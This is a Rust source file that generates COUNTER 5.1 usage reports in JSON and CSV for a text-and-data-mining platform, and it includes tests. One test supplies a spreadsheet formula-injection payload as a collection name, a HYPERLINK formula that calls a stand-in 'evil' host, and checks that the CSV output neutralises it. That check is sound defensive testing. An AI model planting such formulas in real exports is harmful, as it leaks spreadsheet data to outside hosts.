//! Reports of use, in the terms of COUNTER (Code of Practice, release 5.1): everything here is its access method TDM, and a collection is one of its
//! databases. What is counted, and when, is decided where it happens.

use std::collections::BTreeMap;
use std::str::FromStr;

use serde::Serialize;
use utoipa::ToSchema;

use crate::ids::CollectionId;
use crate::spreadsheet::CsvRows;

/// What is counted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Metric {
    /// Searches in a collection that the user has chosen.
    Searches,
    /// Documents that were given, each time.
    Requests,
    /// The same, but each document once for each key and clock hour, which is COUNTER's session of a user.
    UniqueRequests,
    /// Documents that were charged to a quota, or would have been if there were one. Not COUNTER's.
    Charged,
    /// Bytes that were sent, or lay behind a redirect to the object store. Not COUNTER's.
    Bytes,
}

impl Metric {
    /// All of them, in the order of reports.
    pub const ALL: [Self; 5] = [Self::Searches, Self::Requests, Self::UniqueRequests, Self::Charged, Self::Bytes];

    /// COUNTER's `Metric_Type`; one of our own has our namespace before it (Code of Practice, section 11.4).
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Searches => "Searches_Regular",
            Self::Requests => "Total_Item_Requests",
            Self::UniqueRequests => "Unique_Item_Requests",
            Self::Charged => "adit:Documents_Charged",
            Self::Bytes => "adit:Bytes",
        }
    }

    /// COUNTER's `Data_Type` of what is counted: the database, or what is in it.
    fn data_type(self) -> &'static str {
        match self {
            Self::Searches => "Database_Full",
            _ => "Unspecified",
        }
    }
}

impl FromStr for Metric {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let known = Self::ALL.into_iter().find(|metric| metric.as_str() == text);
        known.ok_or_else(|| format!("unknown metric {text:?}"))
    }
}

/// A month of the calendar, in UTC.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Month {
    text: String,
    days: u8,
}

impl Month {
    /// The month of an instant, in milliseconds since the epoch.
    #[must_use]
    pub fn of(now_ms: i64) -> Self {
        let text = crate::clock::rfc3339(now_ms).chars().take(7).collect::<String>();
        // What is no month belongs to a time that no clock shows.
        text.parse().unwrap_or(Self { text, days: 31 })
    }

    /// As 2026-11.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.text
    }

    /// As Nov-2026, the column heading of COUNTER's tables.
    fn heading(&self) -> String {
        const NAMES: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
        let (year, month) = self.text.split_once('-').unwrap_or_default();
        let name = month.parse::<usize>().ok().and_then(|month| NAMES.get(month.wrapping_sub(1)));
        format!("{}-{year}", name.unwrap_or(&month))
    }
}

impl FromStr for Month {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        let wrong = || format!("{text:?} is no month; say it as 2026-11");
        let (year, month) = text.split_once('-').ok_or_else(wrong)?;
        if year.len() != 4 || month.len() != 2 {
            return Err(wrong());
        }
        let month = month.parse::<u8>().ok().and_then(|month| time::Month::try_from(month).ok());
        let days = month.ok_or_else(wrong)?.length(year.parse().map_err(|_| wrong())?);
        Ok(Self { text: text.to_owned(), days })
    }
}

/// A report on one month, as JSON: COUNTER's Database Report.
#[derive(Debug, Serialize, ToSchema)]
pub struct UsageReport {
    /// What it is about.
    #[serde(rename = "Report_Header")]
    header: Header,
    /// One for each collection that was used.
    #[serde(rename = "Report_Items")]
    items: Vec<Item>,
}

#[derive(Debug, Serialize, ToSchema)]
struct Header {
    #[serde(rename = "Release")]
    release: &'static str,
    #[serde(rename = "Report_ID")]
    id: &'static str,
    #[serde(rename = "Report_Name")]
    name: &'static str,
    /// RFC 3339.
    #[serde(rename = "Created")]
    #[schema(format = DateTime)]
    created: String,
    #[serde(rename = "Created_By")]
    created_by: &'static str,
    /// The name of the key that it is about; `The World` for all.
    #[serde(rename = "Institution_Name")]
    institution: String,
    #[serde(rename = "Report_Filters")]
    filters: Filters,
    #[serde(rename = "Report_Attributes")]
    attributes: Attributes,
}

#[derive(Debug, Serialize, ToSchema)]
struct Filters {
    #[serde(rename = "Begin_Date")]
    #[schema(format = Date)]
    begin: String,
    #[serde(rename = "End_Date")]
    #[schema(format = Date)]
    end: String,
    #[serde(rename = "Access_Method")]
    access: [&'static str; 1],
    #[serde(rename = "Metric_Type")]
    metrics: Vec<&'static str>,
}

#[derive(Debug, Serialize, ToSchema)]
struct Attributes {
    #[serde(rename = "Attributes_To_Show")]
    shown: [&'static str; 1],
}

#[derive(Debug, Serialize, ToSchema)]
#[schema(as = UsageItem)]
struct Item {
    /// Name of the collection.
    #[serde(rename = "Database")]
    database: String,
    #[serde(rename = "Publisher")]
    publisher: &'static str,
    #[serde(rename = "Platform")]
    platform: &'static str,
    #[serde(rename = "Item_ID")]
    id: ItemId,
    #[serde(rename = "Attribute_Performance")]
    performance: Vec<Performance>,
}

#[derive(Debug, Serialize, ToSchema)]
struct ItemId {
    /// `adit:` and the collection's slug.
    #[serde(rename = "Proprietary")]
    proprietary: String,
}

#[derive(Debug, Serialize, ToSchema)]
#[schema(as = UsagePerformance)]
struct Performance {
    #[serde(rename = "Data_Type")]
    data_type: &'static str,
    #[serde(rename = "Access_Method")]
    access: &'static str,
    /// Counts by metric and month.
    #[serde(rename = "Performance")]
    counts: BTreeMap<&'static str, BTreeMap<String, u64>>,
}

/// The columns of the tabular report before that of the month.
const COLUMNS: [&str; 9] = [
    "Database",
    "Publisher",
    "Publisher_ID",
    "Platform",
    "Proprietary_ID",
    "Data_Type",
    "Access_Method",
    "Metric_Type",
    "Reporting_Period_Total",
];
const PLATFORM: &str = "Adit";
const TDM: &str = "TDM";

/// Counts by collection and metric.
pub type UsageSums = BTreeMap<(CollectionId, Metric), u64>;

impl UsageReport {
    /// A report on `sums` of a month, of one key (by its name) or all, made at the time `now` (milliseconds since the epoch). Collections come
    /// with slug and name.
    #[must_use]
    pub fn new<'a>(
        month: &Month,
        collections: impl IntoIterator<Item = (CollectionId, &'a str, &'a str)>,
        sums: &UsageSums,
        key: Option<&str>,
        now: i64,
    ) -> Self {
        let header = Header {
            release: "5.1",
            id: "DR",
            name: "Database Report",
            created: crate::clock::rfc3339(now),
            created_by: PLATFORM,
            institution: key.unwrap_or("The World").to_owned(),
            filters: Filters {
                begin: format!("{}-01", month.text),
                end: format!("{}-{:02}", month.text, month.days),
                access: [TDM],
                metrics: Metric::ALL.map(Metric::as_str).to_vec(),
            },
            attributes: Attributes { shown: ["Access_Method"] },
        };
        let item = |(collection, slug, name): (CollectionId, &str, &str)| {
            let counts = Metric::ALL.map(|metric| (metric, sums.get(&(collection, metric)).copied().unwrap_or(0)));
            let performance = performance(month, &counts);
            (!performance.is_empty()).then(|| Item {
                database: name.to_owned(),
                publisher: "",
                platform: PLATFORM,
                id: ItemId { proprietary: format!("adit:{slug}") },
                performance,
            })
        };
        Self { header, items: collections.into_iter().filter_map(item).collect() }
    }

    /// Writes the same as a table: the body of COUNTER's tabular report, with commas (RFC 4180).
    /// Names that a spreadsheet would take for formulas are neutralised.
    ///
    /// # Errors
    /// None that writing into memory gives rise to.
    pub fn csv(&self, month: &Month) -> Result<Vec<u8>, csv::Error> {
        let mut rows = CsvRows::default();
        let heading = month.heading();
        rows.push(COLUMNS.into_iter().chain([heading.as_str()]))?;
        for item in &self.items {
            for of_type in &item.performance {
                for (metric, months) in &of_type.counts {
                    let count = months.values().sum::<u64>().to_string();
                    let (id, kind, access) = (item.id.proprietary.as_str(), of_type.data_type, of_type.access);
                    rows.push([&item.database, "", "", item.platform, id, kind, access, metric, &count, &count])?;
                }
            }
        }
        rows.into_bytes()
    }
}

/// What was counted, by data type; a zero is left out.
fn performance(month: &Month, counts: &[(Metric, u64)]) -> Vec<Performance> {
    let mut by_type: BTreeMap<&'static str, BTreeMap<&'static str, BTreeMap<String, u64>>> = BTreeMap::new();
    for (metric, count) in counts.iter().filter(|(_, count)| *count > 0) {
        let months = [(month.text.clone(), *count)].into();
        by_type.entry(metric.data_type()).or_default().insert(metric.as_str(), months);
    }
    by_type.into_iter().map(|(data_type, counts)| Performance { data_type, access: TDM, counts }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_month_is_of_the_calendar() {
        assert_eq!(Month::of(1_795_302_000_123).as_str(), "2026-11");
        assert_eq!("2024-02".parse::<Month>().unwrap().days, 29);
        assert_eq!("2026-11".parse::<Month>().unwrap().heading(), "Nov-2026");
        for wrong in ["", "2026", "2026-13", "2026-00", "26-11", "2026-1", "2026-11-01", "november"] {
            assert!(wrong.parse::<Month>().unwrap_err().contains("2026-11"), "{wrong}");
        }
    }

    #[test]
    fn metrics_have_names_of_their_own() {
        for metric in Metric::ALL {
            assert_eq!(metric.as_str().parse(), Ok(metric));
        }
    }

    #[test]
    fn a_report_has_the_form_of_counter() {
        let collections = [(CollectionId(1), "jose", "JOSE, \"the\" journal"), (CollectionId(2), "unused", "Unused")];
        let sums = [((CollectionId(1), Metric::Searches), 3), ((CollectionId(1), Metric::Bytes), 5_000_000_000)];
        let month = Month::of(1_795_302_000_123);
        let report = UsageReport::new(&month, collections, &sums.into(), None, 0);
        insta::assert_snapshot!(serde_json::to_string(&report).unwrap(), @r#"{"Report_Header":{"Release":"5.1","Report_ID":"DR","Report_Name":"Database Report","Created":"1970-01-01T00:00:00.000Z","Created_By":"Adit","Institution_Name":"The World","Report_Filters":{"Begin_Date":"2026-11-01","End_Date":"2026-11-30","Access_Method":["TDM"],"Metric_Type":["Searches_Regular","Total_Item_Requests","Unique_Item_Requests","adit:Documents_Charged","adit:Bytes"]},"Report_Attributes":{"Attributes_To_Show":["Access_Method"]}},"Report_Items":[{"Database":"JOSE, \"the\" journal","Publisher":"","Platform":"Adit","Item_ID":{"Proprietary":"adit:jose"},"Attribute_Performance":[{"Data_Type":"Database_Full","Access_Method":"TDM","Performance":{"Searches_Regular":{"2026-11":3}}},{"Data_Type":"Unspecified","Access_Method":"TDM","Performance":{"adit:Bytes":{"2026-11":5000000000}}}]}]}"#);
        insta::assert_snapshot!(String::from_utf8(report.csv(&month).unwrap()).unwrap().replace("\r\n", "\n"), @r#"
        Database,Publisher,Publisher_ID,Platform,Proprietary_ID,Data_Type,Access_Method,Metric_Type,Reporting_Period_Total,Nov-2026
        "JOSE, ""the"" journal",,,Adit,adit:jose,Database_Full,TDM,Searches_Regular,3,3
        "JOSE, ""the"" journal",,,Adit,adit:jose,Unspecified,TDM,adit:Bytes,5000000000,5000000000
        "#);
    }

    #[test]
    fn a_collection_named_by_a_formula_is_a_text_in_the_table() {
        let collections = [(CollectionId(1), "c", "=HYPERLINK(\"http://evil/?\"&A1)")];
        let sums = [((CollectionId(1), Metric::Searches), 3)];
        let month = Month::of(1_795_302_000_123);
        let table = UsageReport::new(&month, collections, &sums.into(), None, 0).csv(&month).unwrap();
        let mut rows = csv::Reader::from_reader(table.as_slice());
        let row = rows.records().next().unwrap().unwrap();
        assert_eq!((&row[0], &row[9]), ("'=HYPERLINK(\"http://evil/?\"&A1)", "3"));
    }
}
